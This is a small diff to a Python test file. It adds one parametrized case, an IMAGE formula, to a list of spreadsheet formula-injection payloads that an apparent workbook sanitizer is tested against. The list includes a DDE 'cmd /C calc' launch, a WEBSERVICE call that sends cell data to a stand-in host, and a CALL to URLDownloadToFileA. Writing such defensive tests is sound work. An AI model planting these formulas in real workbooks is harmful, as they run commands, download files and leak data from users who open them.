@@ -138,6 +138,7 @@ def test_a_workbook_without_any_of_it_keeps_its_bytes() -> None:
         "<f>'cmd'|'/C calc'!A0</f>",
         '<f>SUM(1)+rtd ("a.b","","c")</f>',
         '<f>_xlfn.WEBSERVICE("http://example.lg.jp/"&amp;A1)</f>',
+        '<f>_xlfn.IMAGE("https://example.lg.jp/1.png")</f>',
         '<f>CALL("urlmon","URLDownloadToFileA","JJCCJJ")</f>',
     ],
 )
